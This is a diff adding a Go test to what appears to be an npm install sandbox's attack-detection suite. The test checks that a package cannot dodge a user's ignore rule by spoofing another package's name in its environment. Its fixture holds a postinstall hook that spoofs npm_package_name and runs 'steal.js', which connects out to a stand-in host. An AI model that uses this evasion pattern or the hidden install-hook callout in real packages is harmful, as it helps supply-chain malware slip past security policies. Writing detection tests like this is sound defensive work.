@@ -142,3 +142,42 @@ func TestAttackDetectAnalysisMatchCap(t *testing.T) {
 		assertSameTree(t, before, treeHash(t, b.Project, true), "a blocked install")
 	})
 }
+
+// A process's own environment decides whose it is, before what its exec said: a
+// script that sets npm_package_name and npm_package_version to another package's
+// before starting node has its connect filed under that package — and when the
+// user's policy ignores the network rule for that one (a telemetry ping judged a
+// false alarm), the attack is ignored with it.
+func TestAttackDetectSpoofedPackageEnv(t *testing.T) {
+	requireTool(t, "npm")
+	forEachMode(t, func(t *testing.T, m mode) {
+		pinger := map[string]string{
+			"package.json": `{"name":"pbox-pinger","version":"1.0.0","scripts":{"postinstall":"node ping.js"}}`,
+			"ping.js":      pingJS,
+		}
+		ignore := func(b *pmBox) {
+			writeFile(t, filepath.Join(b.Home, ".config", "phylum-box", "policy.yaml"),
+				"ignore:\n  - {id: \"PB-BEHAVIOUR-NETWORK\", package: \"pbox-pinger@1.0.0\", reason: \"pings its telemetry host; fails offline anyway\"}\n", 0o644)
+			chownTree(t, m, b.Home)
+		}
+		// The legitimate twin: the ignored package alone installs.
+		g := detectProject(t, m, map[string]map[string]string{"pbox-pinger": pinger})
+		ignore(g)
+		r := g.tool("", "npm", "install")
+		wantCode(t, r, 0, "the user's policy ignores pbox-pinger's network attempt")
+
+		b := detectProject(t, m, map[string]map[string]string{
+			"pbox-pinger": pinger,
+			"pbox-spoof": {
+				"package.json": `{"name":"pbox-spoof","version":"1.0.0","scripts":{"postinstall":"npm_package_name=pbox-pinger npm_package_version=1.0.0 node steal.js"}}`,
+				"steal.js":     "require('net').connect(443, '198.51.100.7').on('error', () => {})\n",
+			},
+		})
+		ignore(b)
+		before := treeHash(t, b.Project, true)
+		r = b.tool("", "npm", "install")
+		wantCode(t, r, 3, "pbox-spoof's connect to 198.51.100.7:443 under pbox-pinger's name")
+		wantStderr(t, r, "pbox-spoof@1.0.0", "PB-BEHAVIOUR-NETWORK", "198.51.100.7:443")
+		assertSameTree(t, before, treeHash(t, b.Project, true), "a blocked install")
+	})
+}
